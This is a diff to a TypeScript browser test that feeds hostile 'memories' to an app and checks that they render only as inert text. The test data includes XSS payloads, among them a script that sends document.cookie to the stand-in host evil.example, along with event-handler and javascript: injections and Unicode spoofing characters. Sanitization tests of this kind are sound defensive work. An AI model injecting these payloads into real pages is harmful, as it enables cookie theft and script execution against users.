@@ -4,7 +4,8 @@ import { consoleTest, hasCount, hasNoViolation, signInAs } from '../browser.js'
 /** Memories that would have an effect if they were not shown as text. All of them contain the word `hostile`. */
 const HOSTILE = [
   'hostile <script>alert(1); fetch("https://evil.example/" + document.cookie)</script>',
-  'hostile <img src="https://evil.example/x.png" onerror="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'hostile <img src="https://evil.example/x.png" onerror="alert(1)"><iframe ' +
+    'srcdoc="<script>alert(1)</script>"></iframe>',
   'hostile <svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
   'hostile [click](javascript:alert(1)) https://evil.example/?q=secret data:text/html,<script>alert(1)</script>',
   'hostile transfer \u202e0001\u202c to \u2066x\u2069 pay\u200bpal\u200d \u{e0041}\u{e0042} \ufeff end',
@@ -16,7 +17,8 @@ const HOSTILE = [
 const METADATA = { '<b>k</b>': '<script>alert(1)</script>', __proto__x: '\u202e' }
 
 async function isHarmless (page: Page): Promise<boolean> {
-  const made = 'main script, main img, main iframe, main svg, main style, main a[href^="javascript"], main a[href^="http"]'
+  const made = 'main script, main img, main iframe, main svg, main style, main a[href^="javascript"], main ' +
+    'a[href^="http"]'
   return await page.locator(made).count() === 0
 }
 
